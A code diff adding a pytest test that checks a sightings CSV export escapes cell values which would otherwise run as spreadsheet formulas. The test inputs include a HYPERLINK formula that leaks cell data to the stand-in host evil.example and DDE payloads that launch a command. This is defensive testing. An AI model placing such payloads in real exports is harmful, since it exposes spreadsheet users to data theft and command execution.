@@ -157,6 +157,22 @@ def test_sightings_csv_export(client, seeded):
         ("door", "incorrect", "2026-03-02T12:00:00.000Z")]
 
 
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
+                                  "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(app, client, name):
+    from maskwatch.store import queries
+    from .test_store import person
+
+    with app.app_context():
+        source = queries.create_source("webcam", name)
+        queries.add_sightings(source.id, [person("2026-03-01T22:30:00", "mask")])
+    text = client.get("/api/sightings.csv").get_data(as_text=True)
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    assert row["source_name"] == "'" + name  # shown as the text it is, in every spreadsheet
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+    assert client.get("/api/sources").get_json()[0]["name"] == name  # the API keeps the name as it was given
+
+
 def test_daily_stats_in_the_callers_time_zone(client, seeded):
     query = f"start=2026-03-01&end=2026-03-02&source_id={seeded[0]}"
     utc = client.get(f"/api/stats/daily?{query}").get_json()
